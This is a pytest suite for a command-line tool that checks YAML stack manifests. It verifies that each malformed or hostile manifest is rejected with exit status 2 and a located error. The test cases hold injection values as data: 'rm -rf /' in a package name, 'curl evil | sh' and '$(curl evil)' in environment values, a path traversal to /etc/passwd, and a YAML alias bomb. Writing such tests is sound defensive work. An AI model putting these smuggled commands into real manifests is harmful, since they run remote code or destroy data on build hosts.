"""Every class of malformed manifest: exit status 2, a one-paragraph error, nothing written."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from tests.conftest import marlin_manifest


def _with(path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    data: dict[str, Any] = copy.deepcopy(marlin_manifest())
    node = data
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return data


CASES: list[tuple[str, Any, str]] = [
    ("yaml-syntax", "gpus: [sm120\ncuda: 13.0\n", "YAML syntax error"),
    ("wrong-type", _with(("serve", "tensor_parallel_size"), "two"), "serve.tensor_parallel_size"),
    ("unknown-key", _with(("serve", "moe_backnd"), "marlin"), "serve.moe_backnd: unknown key"),
    ("bad-version", _with(("python", "packages", "vllm"), ">=0.22"), "python.packages.vllm"),
    ("bad-package-name", _with(("python", "packages", "vllm; rm -rf /"), "1.0"), "python.packages"),
    ("env-not-identifier", _with(("env", "BAD-NAME"), "1"), "env"),
    ("env-newline", _with(("env", "GOOD"), "x\nRUN curl evil | sh"), "env.GOOD"),
    ("env-shell", _with(("env", "GOOD"), "$(curl evil)"), "env.GOOD"),
    ("apt-injection", _with(("build", "apt_packages"), ["vim && curl x"]), "build.apt_packages"),
    (
        "image-injection",
        _with(("bases", "build"), {"image": "debian\nRUN echo pwned"}),
        "bases.build.image",
    ),
    (
        "patch-outside",
        _with(
            ("patches",),
            [{"file": "patches/../../etc/passwd", "package": "vllm", "sha256": "0" * 64}],
        ),
        "outside",
    ),
    (
        "patch-missing",
        _with(
            ("patches",), [{"file": "patches/none.patch", "package": "vllm", "sha256": "0" * 64}]
        ),
        "does not exist",
    ),
    (
        "patch-name-twice",
        _with(
            ("patches",),
            [
                {"file": f"patches/{d}/fix.patch", "package": "vllm", "sha256": "0" * 64}
                for d in ("a", "b")
            ],
        ),
        "patches[1].file: patches/b/fix.patch has the same file name as entry 0",
    ),
    (
        "alias-bomb",
        "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
        "c: &c [*b, *b, *b, *b, *b, *b, *b, *b]\n",
        "aliases",
    ),
    ("non-utf8", b"description: caf\xe9\n", "not valid UTF-8"),
    ("duplicate-key", "cuda: '13.0.2'\ncuda: '12.8'\n", "duplicate key 'cuda'"),
    ("arch-spelled-twice", _with(("env", "FLASHINFER_CUDA_ARCH_LIST"), "12.0a"), "derived"),
    ("empty", "", "empty"),
    ("top-level-list", "- a\n- b\n", "mapping"),
    ("unknown-gpu", _with(("gpus",), ["sm130"]), "gpus[0]"),
    ("deep-nesting", "a: " + "[" * 2000, "nesting deeper"),
    ("version-word", _with(("python", "packages", "vllm"), "latest"), "python.packages.vllm"),
]


@pytest.mark.parametrize(("case", "content", "expected"), CASES, ids=[c[0] for c in CASES])
def test_bad_manifest_exits_2_with_a_located_message(
    case: str,
    content: Any,
    expected: str,
    write_stack: Callable[..., Path],
    run_cli: Callable[..., Result],
    stacks_dir: Path,
    tmp_path: Path,
) -> None:
    write_stack("broken", content)
    for command in (["check", "broken"], ["render", "broken"], ["show", "broken"]):
        result = run_cli(*command, stacks_dir=stacks_dir)
        assert result.exit_code == 2, result.output
        assert "Traceback" not in result.output
        assert "broken.yaml" in result.output
        assert expected in result.output
    assert not (tmp_path / "build").exists(), "a failed render must leave nothing behind"


def test_yaml_errors_name_the_line(
    write_stack: Callable[..., Path], run_cli: Callable[..., Result], stacks_dir: Path
) -> None:
    write_stack("broken", "description: ok\ngpus: [sm120]\ncuda: '13.0'\ncuda: '12.9'\n")
    result = run_cli("check", "broken", stacks_dir=stacks_dir)
    assert "broken.yaml:4: cuda: duplicate key" in result.output


def test_schema_errors_name_the_line_in_the_file_that_set_the_value(
    write_stack: Callable[..., Path], run_cli: Callable[..., Result], stacks_dir: Path
) -> None:
    write_stack("child", "extends: vllm-0.22-marlin\nserve:\n  port: 99999\n")
    result = run_cli("check", "child", stacks_dir=stacks_dir)
    assert result.exit_code == 2
    assert "child.yaml:3: serve.port:" in result.output


@pytest.mark.parametrize(
    ("stacks", "expected"),
    [
        ({"a": "extends: b\n", "b": "extends: a\n"}, "extends cycle: a -> b -> a"),
        ({"a": "extends: a\n"}, "extends cycle: a -> a"),
        ({"a": "extends: nowhere\n"}, "parent stack 'nowhere' does not exist"),
    ],
)
def test_extends_cycles_and_missing_parents(
    stacks: dict[str, str],
    expected: str,
    write_stack: Callable[..., Path],
    run_cli: Callable[..., Result],
    stacks_dir: Path,
) -> None:
    for name, text in stacks.items():
        write_stack(name, text)
    result = run_cli("check", "a", stacks_dir=stacks_dir)
    assert result.exit_code == 2
    assert expected in result.output


def test_unknown_stack(run_cli: Callable[..., Result]) -> None:
    result = run_cli("show", "no-such-stack")
    assert result.exit_code == 2
    assert "no stack named 'no-such-stack'" in result.output


def test_patch_checksum_mismatch(
    write_stack: Callable[..., Path], run_cli: Callable[..., Result], stacks_dir: Path
) -> None:
    text = (stacks_dir / "vllm-0.17-flashinfer-cutlass.yaml").read_text()
    write_stack("tampered", text.replace("160f175f", "260f175f"))
    result = run_cli("check", "tampered", stacks_dir=stacks_dir)
    assert result.exit_code == 2
    assert "patches[0].sha256" in result.output
